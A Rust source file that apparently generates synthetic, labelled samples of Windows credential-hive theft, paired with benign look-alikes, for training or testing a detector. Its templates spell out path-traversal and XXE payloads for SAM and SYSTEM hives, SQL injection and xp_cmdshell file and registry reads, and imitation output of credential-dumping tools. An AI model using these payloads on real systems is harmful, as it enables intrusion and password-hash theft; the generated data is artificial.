//! The hive files asked for over HTTP and SQL, and what tools print when they
//! have them: with the other files, and other loot, in the same words.

use crate::generate::family::{Family, Kind::Code, Kind::Told};

const TRAVERSAL: &[&str] = &[
    concat!(
        r#"{ip} - - [{10..28}/{month}/{year}:{clock} +0000] "GET /{stem}«.php¦.asp¦»?«file¦page¦path¦"#,
        r#"f¦doc»={t} HTTP/1.1" «200¦404¦403» {100..90000}« "-" "«Mozilla/5.0 (Windows NT 10.0; "#,
        r#"Win64; x64)¦curl/7.{60..88}.0»"»"#,
    ),
    concat!(
        r"{isodate} {clock} {ip} GET /{stem}.aspx «f¦file¦id»={t} {port} - {ip} «Mozilla/5.0¦",
        r"curl/7.85.0» 200 0 0 {1..900}",
    ),
    r"GET /{stem}/{t} HTTP/1.1⏎Host: {fqdn}",
    r#"curl« -s» «--path-as-is ¦»«"¦'»http://{rhost}«:{port}»/{stem}?file={t}«"¦'»"#,
    r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/{fu}">]><foo>&xxe;</foo>"#,
    r"wfuzz -u http://{rhost}/?page={t}",
    r"WAF blocked request from {ip}: path traversal {t}",
    r"http://{fqdn}/download.«php¦aspx»?path={t}",
    r"POST /{stem} file={t}&submit=1",
    r"view-source:file:///C:/{fu}",
];
const SQL: &[&str] = &[
    r"SELECT «BulkColumn¦*» FROM OPENROWSET(BULK «N»'{f}', SINGLE_«BLOB¦CLOB») «AS ¦»{alnum3}",
    r"SELECT «HEX(»LOAD_FILE('{f}')«)»",
    r"BULK INSERT {stem} FROM '{f}'",
    r"' UNION SELECT 1,LOAD_FILE('{fs}'),3-- -",
    r"COPY {stem} FROM '{f}'",
    r"SELECT pg_read_binary_file('{fs}')",
    r"select lo_import('{fs}')",
    r"EXEC xp_cmdshell 'copy {f} {outfile}'",
    r"EXEC master.dbo.xp_cmdshell 'type {f}'",
    r"EXEC xp_regread 'HKEY_LOCAL_MACHINE', '{k}', '{stem}'",
    r"exec master..xp_instance_regread N'HKEY_LOCAL_MACHINE', N'{k}', N'V'",
];
const OUTPUT: &[&str] = &[
    "{o}",
    "{o}⏎{o2}",
    "{pre}⏎{o}⏎{hash}",
    "{pre}⏎{o}",
    "{o}⏎{hash}",
    "{stamp} {o}",
    "[{clock}] {o}",
    "{o2}⏎{o}",
    "SMB         {ip}   445    {plainhost}  {o}",
    "$ {stem}⏎{pre}⏎{o}",
];

pub const FAMILIES: &[Family] = &[
    Family::act("traversal", "traversal-hive-file", "traversal-other-file", Told, TRAVERSAL).slots(&[("fu", "windows/«system32/config/«sam¦SAM¦system¦SYSTEM¦RegBack/SAM¦security»¦repair/«sam¦system¦SAM»»"), ("fw", r"windows\«system32\config\«sam¦SAM¦SYSTEM»¦repair\sam»"), ("t", concat!(
            r"«../../../../../../{fu}¦..\..\..\..\{fw}¦....//....//....//{fu}¦c:/{fu}¦C:\{fw}¦",
            r"..%2f..%2f..%2f..%2f{fu}¦%2e%2e%2f%2e%2e%2f%2e%2e%2f{fu}¦..%5c..%5c..%5c{fu}¦",
            r"..%252f..%252f{fu}¦/{fu}»",
        ))]).weight(7),
    Family::other("traversal", "traversal-other-file", Told, TRAVERSAL).slots(&[("fu", concat!(
            "«windows/win.ini¦windows/system32/drivers/etc/hosts¦etc/passwd¦boot.ini¦",
            "inetpub/wwwroot/web.config¦windows/system32/config/systemprofile/ntuser.dat¦",
            "xampp/apache/logs/access.log¦windows/panther/unattend.xml¦samples/sam.txt¦",
            "security/system.html¦windows/system32/config/AppEvent.Evt¦windows/ntds/ntds.dit»",
        )), ("fw", concat!(
            r"«windows\win.ini¦windows\system32\drivers\etc\hosts¦boot.ini¦inetpub\wwwroot\web.config¦",
            r"windows\debug\netsetup.log»",
        )), ("t", concat!(
            r"«../../../../../../{fu}¦..\..\..\..\{fw}¦....//....//....//{fu}¦c:/{fu}¦C:\{fw}¦",
            r"..%2f..%2f..%2f..%2f{fu}¦%2e%2e%2f%2e%2e%2f%2e%2e%2f{fu}¦..%5c..%5c..%5c{fu}¦{stem}.pdf¦",
            r"index.html¦/{stem}/{stem}.css¦sam.html¦system/security.php»",
        ))]).weight(12),
    Family::act("sql-file", "sql-hive-file", "sql-other", Code, SQL).slots(&[("f", concat!(
            r"«C:\Windows\System32\config\{whole}¦c:\windows\repair\sam¦{hivefile}¦",
            r"C:\Windows\System32\config\RegBack\SAM»",
        )), ("fs", "C:/Windows/«System32/config/{whole}¦repair/SAM»"), ("k", "«SAM\\SAM\\Domains\\Account¦SECURITY\\Policy\\Secrets¦SAM\\SAM\\Domains\\Account\\Users\\{rid}»")]).weight(5),
    Family::other("sql-file", "sql-other", Code, SQL).slots(&[("f", "«{otherfile}¦{docfile}¦D:\\{stem}\\{stem}.csv»"), ("fs", "C:/«Windows/win.ini¦xampp/htdocs/{stem}.php¦Windows/NTDS/ntds.dit¦data/{stem}.csv»"), ("k", "{otherkey}")]).weight(7),
    Family::act("tool-output", "tool-output-sam", "tool-output-other", Told, OUTPUT).slots(&[("pre", PRE), ("hash", HASH), ("o", concat!(
            "«[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)¦[*] Dumping SAM hashes¦[+] Dumping ",
            "SAM hashes¦[+] Added {1..20} SAM hashes to the database¦[*] Dumping SAM from {plainhost}¦",
            "[+] SAM hive saved to {outfile}¦[*] Saving remote SAM database¦[*] SAM hashes extraction ",
            "in progress¦[*] Obtaining the boot key...⏎[*] Calculating the hboot key using SYSKEY ",
            "{hex32}...⏎[*] Obtaining the user list and keys...⏎[*] Decrypting user keys...⏎[*] ",
            "Dumping password hashes...¦[*] Running module against {plainhost}⏎[*] Hashes will be ",
            "saved to the database if one is connected.⏎[+] Dumping password hashes from registry...¦",
            "Domain : {plainhost}⏎SysKey : {hex32}⏎Local SID : {sid}⏎⏎SAMKey : {hex32}⏎⏎RID  : ",
            "000001f4 (500)⏎User : Administrator¦SUCCESS: {dir}\\sam from {shadow} written out to ",
            "current working directory¦Success: SAM hive from {isodate} written out to current working ",
            "directory as SAM-{isodate}¦[*] Tasked beacon to dump hashes⏎[+] received password hashes:¦",
            "«PsExec v2.{2..4}3 - Execute processes remotely⏎⏎»gsecdump v2.0b5 by Johannes Gumbel⏎Administrator(current):500:{hex32}:{hex32}:::⏎Guest(current-disabled):501:{hex32}:{hex32}:::¦",
            "pwdump{6..8} v{1..7}.{0..9}⏎Administrator:500:{hex32}:{hex32}:::¦samdump2 3.0.0 by Objectif Securite⏎Administrator:500:{hex32}:{hex32}:::¦",
            "[*] Copying {shadow}\\Windows\\System32\\config\\SAM¦[+] Dumped HKLM\\SAM to {outfile}»",
        )), ("o2", concat!(
            "«[*] Target system bootKey: 0x{hex32}¦[*] Service RemoteRegistry is in stopped state¦[*] ",
            "Cleaning up...¦[+] done»",
        ))]).weight(12),
    Family::other("tool-output", "tool-output-other", Told, OUTPUT).slots(&[("pre", PRE), ("hash", "{domain}\\{user}:{1000..9999}:aad3b435b51404eeaad3b435b51404ee:{hex32}:::"), ("o", concat!(
            "«[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash)¦[*] Using the DRSUAPI ",
            "method to get NTDS.DIT secrets¦[*] Dumping LSA Secrets¦[*] Dumping cached domain logon ",
            "information (domain/username:hash)¦[*] Kerberos keys grabbed¦[+] Dumped {1..900} NTDS ",
            "hashes to {shout} of which {1..900} were added to the database¦[*] Searching for pekList, ",
            "be patient¦[+] {domain}\\{user}:{password} (Pwn3d!)¦[*] Windows Server 2019 Build ",
            "{17763..20348} x64 (name:{plainhost}) (domain:{domain}) (signing:True) (SMBv1:False)¦[-] ",
            "{domain}\\{user}:{password} STATUS_LOGON_FAILURE¦[+] Enumerated shares¦[*] Querying ",
            "domain {domain} for information about domain⏎[*] Found domain(s): {plainhost}, Builtin⏎",
            "[*] SAMR: {1..99} entries¦[+] Dumping LSA secrets⏎[+] Dumped {1..40} LSA secrets¦[*] ",
            "Opening SVCManager on {ip}.....⏎[*] Creating service {alnum4} on {ip}.....¦[*] Process: ",
            "lsass.exe, dump written to {outfile}¦Minidump : OK¦[*] Brute forcing RIDs⏎500: ",
            "{domain}\\Administrator (SidTypeUser)¦[*] Service RemoteRegistry is disabled, enabling it⏎",
            "[*] Starting service RemoteRegistry¦Authentication Id : 0 ; {1000..999999}⏎User Name : ",
            "{user}⏎Domain : {domain}¦The operation completed successfully.¦Successfully created ",
            "shadow copy for 'C:\\'⏎    Shadow Copy ID: {{GUID}}⏎    Shadow Copy Volume Name: {shadow}¦",
            "        1 file(s) copied.¦[*] Action: Kerberoasting⏎[*] Total kerberoastable users : ",
            "{1..40}¦Built SAM application {stem} successfully¦[samtools] sorting {stem}.sam in memory»",
        )), ("o2", concat!(
            "«[*] Target system bootKey: 0x{hex32}¦[*] Service RemoteRegistry is in stopped state¦[*] ",
            "Cleaning up...¦[+] done»",
        ))]).weight(16),
];
const PRE: &str = concat!(
    "«Impacket v0.{9..12}.0 - Copyright {2020..2024} «SecureAuth Corporation¦Fortra, LLC and its ",
    "affiliated companies»¦[*] Service RemoteRegistry is in stopped state⏎[*] Starting service ",
    "RemoteRegistry¦[*] Target system bootKey: 0x{hex32}¦SMB {ip} 445 {plainhost} [*] Windows 10 ",
    "Build {17763..22631} x64¦[*] {stem}»",
);
const HASH: &str = concat!(
    "Administrator:500:aad3b435b51404eeaad3b435b51404ee:{hex32}:::«⏎",
    "Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::»",
);
